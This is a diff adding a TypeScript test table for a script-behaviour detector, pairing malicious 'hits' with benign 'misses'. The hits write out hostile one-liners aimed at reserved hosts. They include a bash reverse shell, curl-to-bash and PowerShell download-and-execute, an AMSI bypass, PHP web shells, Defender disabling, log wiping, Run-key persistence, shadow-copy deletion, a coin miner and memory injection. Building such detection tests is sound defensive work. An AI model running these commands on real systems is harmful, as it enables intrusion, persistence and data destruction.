@@ -1,0 +1,127 @@
+// What scripts do on a machine, in the shortest form that shows it, and what looks like it. Hosts are reserved ones.
+import type { ScriptLanguage } from '../../../src/file/formats/script/facts.ts'
+import type { CaseTable } from '../detector-table.ts'
+
+type Text = readonly [ScriptLanguage, string]
+
+const HOST = 'https://files.example'
+
+export const ACTS: CaseTable<Text> = {
+  script_opens_reverse_shell: {
+    hits: { 'a shell over a socket of bash': ['shell', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'] },
+    misses: {
+      'a port that is tried': ['shell', 'timeout 1 bash -c "</dev/tcp/203.0.113.7/443" && echo open'],
+      'a shell that stays here': ['shell', 'bash -i'],
+    },
+  },
+  script_downloads_and_runs: {
+    hits: {
+      'saved and started': [
+        'powershell',
+        `Invoke-WebRequest ${HOST}/a.exe -OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe`,
+      ],
+    },
+    misses: {
+      'saved alone': ['powershell', `Invoke-WebRequest ${HOST}/a.csv -OutFile a.csv`],
+      'started alone': ['powershell', 'Start-Process notepad.exe'],
+    },
+  },
+  script_runs_downloaded_text: {
+    hits: { 'run without saving': ['powershell', `IEX (New-Object Net.WebClient).DownloadString('${HOST}/a.ps1')`] },
+    misses: {
+      'text that is shown': ['powershell', `(New-Object Net.WebClient).DownloadString('${HOST}/a.txt') | Write-Host`],
+      'a command of its own': ['powershell', "Invoke-Expression 'Get-Date'"],
+    },
+  },
+  script_pipes_download_to_shell: {
+    hits: { 'a page into a shell': ['shell', 'curl -s http://203.0.113.7/a | bash'] },
+    misses: {
+      'a page into a file': ['shell', 'curl -s https://files.example/a -o a.txt'],
+      'a file into a shell': ['shell', 'cat setup.sh | bash'],
+    },
+  },
+  script_runs_download_from_temp: {
+    hits: {
+      'fetched, made executable, started': ['shell', 'wget http://203.0.113.7/a -O /tmp/a; chmod +x /tmp/a; /tmp/a'],
+    },
+    misses: {
+      'fetched to be kept': ['shell', 'wget https://files.example/a.tar.gz -O /opt/a.tar.gz'],
+      'started from its build': ['shell', 'chmod +x ./build/a; ./build/a'],
+    },
+  },
+  script_bypasses_amsi: {
+    hits: {
+      'its failure is set': [
+        'powershell',
+        "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
+      ],
+    },
+    misses: { 'a question about its state': ['powershell', 'Get-MpComputerStatus | Select-Object AMServiceEnabled'] },
+  },
+  script_loads_assembly_from_memory: {
+    hits: {
+      'decoded and called': [
+        'powershell',
+        '$b=[Convert]::FromBase64String($t); $a=[System.Reflection.Assembly]::Load($b); $a.EntryPoint.Invoke($null,$null)',
+      ],
+    },
+    misses: {
+      'a library of the disk': ['powershell', "Add-Type -Path 'C:\\Program Files\\A\\a.dll'"],
+      'a library by its name': ['powershell', 'Add-Type -AssemblyName System.Windows.Forms'],
+    },
+  },
+  script_is_web_shell: {
+    hits: {
+      'PHP that evaluates a parameter': ['php', '<?php @eval($_POST["x"]); ?>'],
+      'PHP that starts a parameter': ['php', '<?php system($_GET["cmd"]); ?>'],
+    },
+    misses: {
+      'PHP that shows a parameter': ['php', '<?php echo htmlspecialchars($_GET["name"]); ?>'],
+      'PHP that starts a program': ['php', '<?php system("uptime"); ?>'],
+    },
+  },
+  script_disables_defences: {
+    hits: { 'the scanner is switched off': ['powershell', 'Set-MpPreference -DisableRealtimeMonitoring $true'] },
+    misses: { 'its state is asked': ['powershell', 'Get-MpPreference'] },
+  },
+  script_wipes_logs: {
+    hits: { 'the log of security': ['batch', 'wevtutil cl Security'] },
+    misses: { 'a log is read': ['batch', 'wevtutil qe Security /c:5'] },
+  },
+  script_persists: {
+    hits: {
+      'a key that runs at logon': [
+        'batch',
+        'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d "%APPDATA%\\a.exe" /f',
+      ],
+    },
+    misses: { 'the key is read': ['batch', 'reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'] },
+  },
+  script_destroys_recovery: {
+    hits: { 'shadow copies are deleted': ['batch', 'vssadmin delete shadows /all /quiet'] },
+    misses: { 'shadow copies are listed': ['batch', 'vssadmin list shadows'] },
+  },
+  script_mines_coins: {
+    hits: {
+      'a miner and its pool': ['shell', './xmrig -o stratum+tcp://pool.example:3333 -u wallet --donate-level 1'],
+    },
+    misses: { 'a text about mining': ['shell', 'echo "mining is switched off"'] },
+  },
+  script_is_encoded: {
+    hits: { 'the encoder of Microsoft': ['vbscript', '#@~^EAAAAA==\u007f\u007f^#~@'] },
+    misses: { 'plain text': ['vbscript', 'MsgBox "hello"'] },
+  },
+  script_uses_system_tool_to_fetch: {
+    hits: { certutil: ['batch', 'certutil -urlcache -split -f http://203.0.113.7/a.exe a.exe'] },
+    misses: { 'a hash by certutil': ['batch', 'certutil -hashfile a.exe SHA256'] },
+  },
+  script_injects_code: {
+    hits: {
+      'memory, code and a thread': [
+        'powershell',
+        '$p=[W]::VirtualAlloc(0,4096,0x3000,0x40); [Runtime.InteropServices.Marshal]::Copy($b,0,$p,$b.Length); [W]::CreateThread(0,0,$p,0,0,0)',
+      ],
+    },
+    misses: { 'memory of an array': ['powershell', '$a = New-Object byte[] 4096; $a[0] = 1'] },
+  },
+}
